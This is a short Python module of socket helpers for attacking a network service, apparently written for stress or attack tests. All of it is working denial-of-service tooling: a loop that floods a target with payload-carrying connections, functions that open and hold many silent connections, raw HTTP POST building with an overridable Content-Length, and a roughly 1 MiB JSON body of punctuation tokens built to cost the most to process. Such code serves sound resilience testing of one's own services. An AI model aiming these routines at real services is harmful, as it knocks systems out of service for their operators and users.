"""Sockets for attacks: an attacker does not mind errors."""

import contextlib
import json
import socket
import time
from collections.abc import Iterator
from typing import NamedTuple


class Target(NamedTuple):
    """The address of the service."""

    host: str
    port: int

    def connect(self, timeout_s: float = 5.0) -> socket.socket:
        """A new connection."""
        return socket.create_connection((self.host, self.port), timeout_s)


def hammer(target: Target, payload: bytes, *, until: float, wait_s: float = 0.0) -> int:
    """Send a payload on connection after connection.

    Args:
        target: the service.
        payload: sent as fast as the service takes it.
        until: `time.monotonic()` of the end.
        wait_s: how long a connection waits for an answer before it is dropped.

    Returns:
        How many connections were used.
    """
    used = 0
    while time.monotonic() < until:
        used += 1
        with contextlib.suppress(OSError), target.connect() as client:
            client.sendall(payload)
            client.settimeout(max(wait_s, 0.01))
            client.recv(1 << 16)
    return used


def hold(clients: list[socket.socket], *, until: float) -> None:
    """Keep connections open."""
    time.sleep(max(0.0, until - time.monotonic()))
    for client in clients:
        client.close()


def open_many(target: Target, count: int, *, until: float) -> Iterator[socket.socket]:
    """As many connections as can be had, without a word on any."""
    for _ in range(count):
        if time.monotonic() > until:
            return
        with contextlib.suppress(OSError):
            yield target.connect(timeout_s=2.0)


def post(path: str, body: bytes, *headers: str, length: int | None = None) -> bytes:
    """A request with JSON."""
    lines = [
        f"POST {path} HTTP/1.1",
        "Host: attacked",
        "Content-Type: application/json",
        f"Content-Length: {len(body) if length is None else length}",
        *headers,
    ]
    return "\r\n".join((*lines, "", "")).encode() + body


def heaviest_body() -> bytes:
    """Just under 1 MiB that costs the most: as many of the shortest tokens as fit."""
    text = ".,;:" * 2500
    count = (1024 * 1024 - 100) // (len(text) + 3)
    return json.dumps({"texts": [text] * count}, separators=(",", ":")).encode()
